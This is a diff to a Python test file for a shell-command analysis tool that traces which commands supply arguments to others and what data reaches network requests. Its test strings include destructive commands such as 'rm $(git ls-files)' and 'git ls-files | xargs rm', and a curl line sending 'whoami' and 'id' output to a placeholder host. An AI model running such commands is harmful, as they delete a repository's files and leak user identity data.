@@ -4,7 +4,8 @@ from __future__ import annotations
 
 import pytest
 
-from prempti_otel.analysis.reading import ALL_VARIABLES, MOST_INHERITED
+from prempti_otel.analysis.predict import LONGEST_LINE
+from prempti_otel.analysis.reading import ALL_VARIABLES, MOST_ORIGINS
 from tests.support.predictions import predicted
 
 PRINTED = [
@@ -189,6 +190,25 @@ GIVEN = [
 ]
 
 
+FROM = [
+    ("rm $(git ls-files)", ["git ls-files"]),
+    ("x=$(git ls-files); rm $x", ["git ls-files"]),
+    ("x=$(git ls-files | sort); for f in $x; do rm a-${f%b}; done", ["git ls-files", "sort"]),
+    ("git ls-files | xargs rm", ["git ls-files"]),
+    ("git ls-files | grep x | xargs -I% rm %", ["git ls-files", "grep x"]),
+    ("git ls-files | while read f; do rm $f; done", ["git ls-files"]),
+    ("while read f; do rm $f; done < <(git ls-files)", ["git ls-files"]),
+    ("mapfile -t a < <(git ls-files); rm ${a[@]}", ["git ls-files"]),
+    ("read x <<< $(git ls-files); rm $x", ["git ls-files"]),
+    ("f() { rm $1; }; f `git ls-files`", ["git ls-files"]),
+    ("rm $(echo $(git ls-files))", ["echo $(git ls-files)", "git ls-files"]),
+    ("rm $A", []),
+    ("rm $(echo a)", []),
+    ("rm '$(git ls-files)'", []),
+    ("x=$(git ls-files); rm a ${#x} ${x:+b}", []),
+]
+
+
 def _names(code: str, field: str) -> set[str]:
     prediction = predicted(code)
     found: set[str] = set()
@@ -222,9 +242,9 @@ def test_a_process_is_given_values_by_arguments_and_by_standard_input(code: str,
 
 
 def test_of_very_many_variables_the_first_are_named_and_a_star_stands_for_the_rest() -> None:
-    names = [f"A{number}" for number in range(MOST_INHERITED + 1)]
+    names = [f"A{number}" for number in range(MOST_ORIGINS + 1)]
     assert _names(f"echo {' '.join(f'${name}' for name in names)}", "proc.output_variables") == {
-        *names[:MOST_INHERITED],
+        *names[:MOST_ORIGINS],
         ALL_VARIABLES,
     }
 
@@ -233,3 +253,18 @@ def test_no_process_has_the_fields_where_nothing_flows() -> None:
     fields = {"proc.args_variables", "proc.stdin_variables", "proc.output_variables"}
     for event in predicted("x=1; echo $x | cat > f; ls $HOME; curl https://e.example").processes:
         assert not fields & event.values.keys()
+
+
+@pytest.mark.parametrize(("code", "lines"), FROM, ids=[code for code, _ in FROM])
+def test_it_is_known_which_commands_put_out_an_argument(code: str, lines: list[str]) -> None:
+    assert sorted(set(map(str, predicted(code).process("rm").values.get("proc.args_from", ())))) == lines
+
+
+def test_what_other_commands_put_out_is_seen_in_addresses_and_bodies() -> None:
+    assert _names("curl https://e.example/$(whoami) -d $(id) -H $(date)", "net.sent_from") == {"whoami", "id"}
+
+
+def test_of_a_very_long_command_line_the_beginning_is_told() -> None:
+    lines = predicted(f"rm $(ls {'a' * 5000})").process("rm").values["proc.args_from"]
+    assert isinstance(lines, tuple)
+    assert [len(str(line)) for line in lines] == [LONGEST_LINE]
